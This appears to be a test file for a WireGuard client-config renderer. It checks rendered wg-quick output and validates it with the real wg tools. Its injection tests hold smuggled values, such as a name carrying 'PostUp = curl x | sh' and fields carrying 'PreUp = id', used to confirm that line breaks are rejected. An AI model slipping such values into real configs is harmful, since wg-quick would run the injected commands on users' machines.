import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { generateKeyPair, generatePresharedKey } from '../../../common/crypto/wireguard-keys';
import { renderClientConfig, UnsafeConfigValueError, type ClientConfigInput } from './client-config';

const INTERFACE = 'wgfcfgspec0';

const settings: ClientConfigInput['settings'] = {
  dns: ['1.1.1.1', '2606:4700:4700::1111'],
  dns_search: [],
  mtu: 1380,
  persistent_keepalive: 25,
  endpoint_allowed_ips: ['0.0.0.0/0', '::/0'],
  endpoint: '192.0.2.10:51820',
};

function configInput(changes: Partial<ClientConfigInput> = {}): ClientConfigInput {
  const peer = generateKeyPair();
  return {
    name: 'alice laptop',
    publicKey: peer.publicKey,
    privateKey: peer.privateKey,
    addresses: ['10.0.1.2/32', 'fd00:1::2/128'],
    presharedKey: generatePresharedKey(),
    serverPublicKey: generateKeyPair().publicKey,
    settings,
    ...changes,
  };
}

describe('renderClientConfig', () => {
  it('writes a wg-quick config with every setting', () => {
    const input = configInput();
    expect(renderClientConfig(input)).toBe(
      [
        '# alice laptop',
        '[Interface]',
        `PrivateKey = ${input.privateKey}`,
        'Address = 10.0.1.2/32, fd00:1::2/128',
        'DNS = 1.1.1.1, 2606:4700:4700::1111',
        'MTU = 1380',
        '',
        '[Peer]',
        `PublicKey = ${input.serverPublicKey}`,
        `PresharedKey = ${input.presharedKey}`,
        'Endpoint = 192.0.2.10:51820',
        'AllowedIPs = 0.0.0.0/0, ::/0',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
  });

  it('writes search domains after the DNS servers and split routes as AllowedIPs', () => {
    const text = renderClientConfig(
      configInput({
        settings: {
          ...settings,
          dns: ['10.0.0.53'],
          dns_search: ['corp.example', 'lab.corp.example'],
          endpoint_allowed_ips: ['10.0.0.0/8', '192.168.10.0/24'],
        },
      }),
    );
    expect(text).toContain('\nDNS = 10.0.0.53, corp.example, lab.corp.example\n');
    expect(text).toContain('\nAllowedIPs = 10.0.0.0/8, 192.168.10.0/24\n');
  });

  it('leaves out what is not set', () => {
    const text = renderClientConfig(
      configInput({
        presharedKey: null,
        settings: { ...settings, dns: [], mtu: null, persistent_keepalive: 0 },
      }),
    );
    expect(text).not.toMatch(/^(DNS|MTU|PresharedKey|PersistentKeepalive)\b/m);
  });

  it('explains a private key the panel does not hold in a comment, naming the public key', () => {
    const input = configInput({ privateKey: null });
    const text = renderClientConfig(input);
    expect(text).not.toMatch(/^PrivateKey/m);
    expect(text).toContain(
      `# PrivateKey not stored by the panel: add "PrivateKey = ..." with the private key of ${input.publicKey}`,
    );
  });

  it('refuses a name holding any line break, so no line can be injected', () => {
    for (const lineBreak of ['\n', '\r', '\u0085', '\u2028', '\u2029']) {
      expect(() => renderClientConfig(configInput({ name: `evil${lineBreak}PostUp = curl x | sh` }))).toThrow(
        new UnsafeConfigValueError('name'),
      );
    }
  });

  it('refuses a line break in any other value, whatever its source', () => {
    const evil = '10.0.1.2/32\u2028PostUp = id';
    const node = generateKeyPair().publicKey;
    const cases: Array<[string, Partial<ClientConfigInput>]> = [
      ['node.public_key', { serverPublicKey: `${node}\nPreUp = id` }],
      ['public_key', { privateKey: null, publicKey: `${node}\rPreUp = id` }],
      ['allowed_ips[1]', { addresses: ['10.0.1.2/32', evil] }],
      ['endpoint', { settings: { ...settings, endpoint: 'vpn.example.com:51820\u0085PostUp = id' } }],
      ['dns[0]', { settings: { ...settings, dns: ['1.1.1.1\u2029PostUp = id'] } }],
      ['dns_search[0]', { settings: { ...settings, dns_search: ['corp.example\nPostUp = id'] } }],
      ['endpoint_allowed_ips[0]', { settings: { ...settings, endpoint_allowed_ips: [evil] } }],
    ];
    for (const [field, changes] of cases) {
      expect(() => renderClientConfig(configInput(changes))).toThrow(new UnsafeConfigValueError(field));
    }
  });
});

describe('renderClientConfig with the real wg-quick and wg', () => {
  let dir: string;
  let wireguardGo: number | undefined;

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'wgfleet-client-config-'));
    spawnSync('ip', ['link', 'del', INTERFACE]);
    execFileSync('wireguard-go', [INTERFACE], {
      env: { ...process.env, WG_I_PREFER_BUGGY_USERSPACE_TO_POLISHED_KMOD: '1' },
      stdio: 'ignore',
    });
    const found = spawnSync('pgrep', ['-f', `^wireguard-go ${INTERFACE}$`], {
      encoding: 'utf8',
    }).stdout.trim();
    wireguardGo = found ? Number(found.split('\n')[0]) : undefined;
  });

  afterAll(() => {
    spawnSync('ip', ['link', 'del', INTERFACE]);
    if (wireguardGo !== undefined) {
      try {
        process.kill(wireguardGo);
      } catch {
        // already gone with its interface
      }
    }
    rmSync(dir, { recursive: true, force: true });
  });

  /** wg-quick strip needs the file named after an interface; wg reads the result from a 0600 file. */
  function applyThroughWgQuick(config: string): string {
    const source = join(dir, `${INTERFACE}.conf`);
    writeFileSync(source, config, { mode: 0o600 });
    const stripped = join(dir, 'stripped.conf');
    writeFileSync(stripped, execFileSync('wg-quick', ['strip', source], { encoding: 'utf8' }), {
      mode: 0o600,
    });
    execFileSync('wg', ['setconf', INTERFACE, stripped]);
    return execFileSync('wg', ['showconf', INTERFACE], { encoding: 'utf8' });
  }

  it('is accepted by wg-quick and applied by wg with every setting', () => {
    const input = configInput();
    const shown = applyThroughWgQuick(renderClientConfig(input));
    expect(shown).toContain(`PrivateKey = ${input.privateKey}`);
    expect(shown).toContain(`PublicKey = ${input.serverPublicKey}`);
    expect(shown).toContain(`PresharedKey = ${input.presharedKey}`);
    expect(shown).toContain('AllowedIPs = 0.0.0.0/0, ::/0');
    expect(shown).toContain('Endpoint = 192.0.2.10:51820');
    expect(shown).toContain('PersistentKeepalive = 25');
  });

  it('is accepted without a private key, preshared key or keepalive, with an IPv6 endpoint', () => {
    const input = configInput({
      privateKey: null,
      presharedKey: null,
      settings: { ...settings, dns: [], mtu: null, persistent_keepalive: 0, endpoint: '[2001:db8::1]:4500' },
    });
    const shown = applyThroughWgQuick(renderClientConfig(input));
    expect(shown).not.toContain('PrivateKey');
    expect(shown).not.toContain('PresharedKey');
    expect(shown).not.toContain('PersistentKeepalive');
    expect(shown).toContain(`PublicKey = ${input.serverPublicKey}`);
    expect(shown).toContain('Endpoint = [2001:db8::1]:4500');
  });
});
